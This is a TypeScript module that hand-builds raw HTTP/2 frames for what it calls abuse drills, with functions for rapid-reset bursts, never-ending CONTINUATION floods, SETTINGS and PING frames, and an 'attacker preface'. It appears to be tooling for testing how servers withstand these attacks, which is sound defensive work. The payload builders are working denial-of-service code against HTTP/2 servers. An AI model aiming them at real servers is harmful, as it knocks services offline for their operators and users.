// Raw HTTP/2 frames for the abuse drills (rapid reset, CONTINUATION flood,
// SETTINGS/PING floods): what an attacker writes on a TLS socket after ALPN
// h2, built by hand so nothing in a client library smooths it over. HPACK
// here is the static table and literal names without Huffman: enough for a
// GET. Not a client: nothing is parsed but the server's GOAWAY.
export const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');

export const T = {
  DATA: 0,
  HEADERS: 1,
  PRIORITY: 2,
  RST_STREAM: 3,
  SETTINGS: 4,
  PING: 6,
  GOAWAY: 7,
  WINDOW_UPDATE: 8,
  CONTINUATION: 9,
} as const;
export const F = { END_STREAM: 1, ACK: 1, END_HEADERS: 4, PRIORITY: 0x20 } as const;

export function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const b = Buffer.alloc(9 + payload.length);
  b.writeUIntBE(payload.length, 0, 3);
  b[3] = type;
  b[4] = flags;
  b.writeUInt32BE(stream & 0x7fffffff, 5);
  payload.copy(b, 9);
  return b;
}

/** SETTINGS with [id, value] pairs in the order given. */
export function settings(pairs: readonly (readonly [number, number])[] = []): Buffer {
  const p = Buffer.alloc(6 * pairs.length);
  pairs.forEach(([id, v], i) => {
    p.writeUInt16BE(id, i * 6);
    p.writeUInt32BE(v, i * 6 + 2);
  });
  return frame(T.SETTINGS, 0, 0, p);
}

export function windowUpdate(stream: number, increment: number): Buffer {
  const p = Buffer.alloc(4);
  p.writeUInt32BE(increment, 0);
  return frame(T.WINDOW_UPDATE, 0, stream, p);
}

export function rstStream(stream: number, code = 8): Buffer {
  const p = Buffer.alloc(4);
  p.writeUInt32BE(code, 0);
  return frame(T.RST_STREAM, 0, stream, p);
}

export function ping(data = 0): Buffer {
  const p = Buffer.alloc(8);
  p.writeUInt32BE(data >>> 0, 4);
  return frame(T.PING, 0, 0, p);
}

function literal(nameIndex: number, value: string): Buffer {
  // Literal header field without indexing, indexed name (RFC 7541 6.2.2), 4-bit prefix; value < 127 bytes.
  const v = Buffer.from(value, 'latin1');
  if (nameIndex >= 15 || v.length >= 127) throw new RangeError('literal too long for this tiny encoder');
  return Buffer.concat([Buffer.from([nameIndex, v.length]), v]);
}

function literalName(name: string, value: string): Buffer {
  const n = Buffer.from(name, 'latin1');
  const v = Buffer.from(value, 'latin1');
  return Buffer.concat([Buffer.from([0, n.length]), n, Buffer.from([v.length]), v]);
}

/** The header block of `GET path` for `authority` (:method GET, :scheme https, :path, :authority). */
export function getBlock(authority: string, path = '/'): Buffer {
  const parts: Buffer[] = [Buffer.from([0x82, 0x87])];
  parts.push(path === '/' ? Buffer.from([0x84]) : literal(4, path));
  parts.push(literal(1, authority));
  return Buffer.concat(parts);
}

export function headers(stream: number, block: Buffer, endStream = true, endHeaders = true): Buffer {
  return frame(T.HEADERS, (endStream ? F.END_STREAM : 0) | (endHeaders ? F.END_HEADERS : 0), stream, block);
}

/** One burst of rapid reset: HEADERS (a complete GET) then RST_STREAM(CANCEL) for `count` new streams from `firstId` (odd). */
export function rapidResetBurst(firstId: number, count: number, authority: string): Buffer {
  const block = getBlock(authority);
  const out: Buffer[] = [];
  for (let i = 0; i < count; i++) {
    const id = firstId + 2 * i;
    out.push(headers(id, block), rstStream(id));
  }
  return Buffer.concat(out);
}

/** A HEADERS frame without END_HEADERS, then `n` CONTINUATION frames of filler headers (never ending the block). */
export function continuationFlood(stream: number, authority: string, n: number): Buffer {
  const out = [headers(stream, getBlock(authority), true, false)];
  const filler = literalName('x-fill', 'a'.repeat(100));
  for (let i = 0; i < n; i++) out.push(frame(T.CONTINUATION, 0, stream, filler));
  return Buffer.concat(out);
}

/** The connection preface an attacker sends: magic, an empty SETTINGS, the ACK of the server's. */
export function attackerPreface(): Buffer {
  return Buffer.concat([PREFACE, settings(), frame(T.SETTINGS, F.ACK, 0)]);
}
